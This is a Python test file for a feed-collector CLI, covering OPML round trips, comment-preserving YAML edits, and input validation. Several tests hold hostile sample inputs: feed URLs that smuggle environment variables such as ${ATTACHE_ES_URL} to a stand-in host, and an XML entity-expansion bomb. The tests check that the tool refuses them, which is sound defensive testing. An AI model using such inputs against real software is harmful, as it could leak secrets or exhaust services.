"""``attache feeds``: OPML round trip and edits that keep the feeds file readable."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from services.collector.manage import add_feeds, remove_feed
from services.collector.opml import OpmlError, Outline, read_opml
from services.common.config_files import load_feeds

ATTACHE = str(Path(sys.executable).with_name("attache"))
FEEDS_YAML = """# my feeds
# keep this comment
feeds:
  - id: local
    url: "http://127.0.0.1:${SOME_PORT:-8470}/a.xml"
"""
OPML = """<?xml version="1.0"?>
<opml version="1.0"><head><title>Reader export</title></head><body>
  <outline text="World"><outline text="BBC World" type="rss" xmlUrl="https://feeds.bbci.co.uk/news/world/rss.xml"/>
    <outline text="Dawn" type="rss" xmlUrl="https://www.dawn.com/feeds/world"/></outline>
  <outline title="NPR World" xmlUrl="https://feeds.npr.org/1004/rss.xml"/>
  <outline text="duplicate" xmlUrl="https://www.dawn.com/feeds/world"/>
</body></opml>
"""


def run(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([ATTACHE, "feeds", *args], env={"PATH": "", **env}, capture_output=True, text=True,
                          timeout=60)


def test_opml_import_then_export_gives_the_same_feed_set(tmp_path: Path) -> None:
    feeds, opml, exported = tmp_path / "feeds.yaml", tmp_path / "in.opml", tmp_path / "out.opml"
    feeds.write_text("feeds: []\n")
    opml.write_text(OPML)
    env = {"ATTACHE_FEEDS_FILE": str(feeds)}
    done = run(env, "import", str(opml))
    assert done.returncode == 0, done.stderr
    assert "3 feeds in" in done.stdout and "3 added" in done.stdout
    assert run(env, "import", str(opml)).stdout.count("0 added") == 1  # idempotent
    assert run(env, "export", str(exported)).returncode == 0
    assert {o.url for o in read_opml(exported)} == {o.url for o in read_opml(opml)}
    assert [o.title for o in read_opml(exported)] == ["BBC World", "Dawn", "NPR World"]


def test_add_and_remove_keep_comments_and_unexpanded_variables(tmp_path: Path) -> None:
    path = tmp_path / "feeds.yaml"
    path.write_text(FEEDS_YAML)
    added = add_feeds(path, [Outline("https://news.example.org/rss", "Example News")], interval_s=120)
    assert added == ["example-news"]
    assert add_feeds(path, [Outline("https://news.example.org/rss", "Again")]) == []
    text = path.read_text()
    assert text.startswith("# my feeds\n# keep this comment\n")
    assert "${SOME_PORT:-8470}" in text
    assert [f.id for f in load_feeds(path)] == ["local", "example-news"]
    assert remove_feed(path, "https://news.example.org/rss")
    assert not remove_feed(path, "nope")
    assert [f.id for f in load_feeds(path)] == ["local"]


def test_a_broken_opml_file_is_a_clear_error(tmp_path: Path) -> None:
    opml = tmp_path / "bad.opml"
    opml.write_text("<html>not opml</html>")
    done = run({"ATTACHE_FEEDS_FILE": str(tmp_path / "f.yaml")}, "import", str(opml))
    assert done.returncode == 2
    assert "not an OPML document" in done.stderr


def test_check_reports_an_unreachable_feed_as_json_without_publishing(tmp_path: Path) -> None:
    done = run({"ATTACHE_FETCH_TIMEOUT_S": "2", "ATTACHE_ALLOW_PRIVATE_ADDRESSES": "127.0.0.1"},
               "check", "http://127.0.0.1:9/feed.xml", "--json")
    assert done.returncode == 1
    report = orjson.loads(done.stdout)
    assert report["ok"] is False and report["error"].startswith("cannot connect")


def test_feeds_without_an_id_get_unique_ids_even_with_long_shared_prefixes(tmp_path: Path) -> None:
    path = tmp_path / "feeds.yaml"
    base = "https://news.google.com/rss/search?q=diplomacy+summit+leaders+meeting+international+"
    path.write_text(f"feeds:\n  - url: '{base}alpha'\n  - url: '{base}beta'\n")
    ids = [f.id for f in load_feeds(path)]
    assert len(set(ids)) == 2 and all(len(i) <= 64 for i in ids)
    assert add_feeds(path, [Outline(base + "gamma", base + "gamma")]) != []
    assert len({f.id for f in load_feeds(path)}) == 3


def test_export_writes_variables_unexpanded_so_no_secret_leaks(tmp_path: Path) -> None:
    feeds, exported = tmp_path / "feeds.yaml", tmp_path / "out.opml"
    feeds.write_text('feeds:\n  - {id: private, url: "https://api.example.org/feed?token=${SECRET_TOKEN}"}\n')
    done = run({"ATTACHE_FEEDS_FILE": str(feeds), "SECRET_TOKEN": "s3cr3t"}, "export", str(exported))
    assert done.returncode == 0, done.stderr
    text = exported.read_text()
    assert "${SECRET_TOKEN}" in text and "s3cr3t" not in text


def test_adding_something_that_is_not_a_url_is_refused(tmp_path: Path) -> None:
    feeds = tmp_path / "feeds.yaml"
    feeds.write_text("feeds: []\n")
    done = run({"ATTACHE_FEEDS_FILE": str(feeds)}, "add", "notaurl")
    assert done.returncode == 2 and "not an http(s) URL" in done.stderr


def test_an_imported_feed_url_cannot_pull_a_secret_out_of_the_environment(tmp_path: Path) -> None:
    feeds, opml = tmp_path / "feeds.yaml", tmp_path / "hostile.opml"
    feeds.write_text("feeds: []\n")
    opml.write_text('<?xml version="1.0"?><opml version="2.0"><head/><body>'
                    '<outline text="ok" xmlUrl="https://news.example.org/rss"/>'
                    '<outline text="thief" xmlUrl="https://x.invalid/rss?k=${ATTACHE_ES_URL}"/>'
                    '<outline text="thief2" xmlUrl="https://x.invalid/$HOME/rss"/>'
                    "</body></opml>")
    secret = "https://elastic:s3cr3t@es.example.org:9200"
    done = run({"ATTACHE_FEEDS_FILE": str(feeds), "ATTACHE_ES_URL": secret}, "import", str(opml))
    assert "thief" not in feeds.read_text() and "x.invalid" not in feeds.read_text()
    assert "https://news.example.org/rss" in feeds.read_text()  # the honest feed is still imported
    assert "refused" in done.stderr and "$" in done.stderr, done.stderr
    assert all(secret not in feed.url for feed in load_feeds(feeds))


def test_adding_a_url_with_a_variable_reference_is_refused(tmp_path: Path) -> None:
    feeds = tmp_path / "feeds.yaml"
    feeds.write_text("feeds: []\n")
    done = run({"ATTACHE_FEEDS_FILE": str(feeds), "ATTACHE_ES_URL": "http://u:pw@es:9200"},
               "add", "https://x.invalid/rss?k=${ATTACHE_ES_URL}")
    assert done.returncode == 2 and "$" in done.stderr, done.stderr
    assert load_feeds(feeds) == []


def test_an_opml_file_declaring_entities_is_refused_in_utf16_too(tmp_path: Path) -> None:
    opml = tmp_path / "bomb.opml"
    opml.write_bytes(('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE opml [<!ENTITY a "aaaa">'
                      '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><opml version="2.0"><head/><body>'
                      '<outline text="&b;" xmlUrl="https://x.org/rss"/></body></opml>').encode("utf-16"))
    with pytest.raises(OpmlError, match="entit"):
        read_opml(opml)
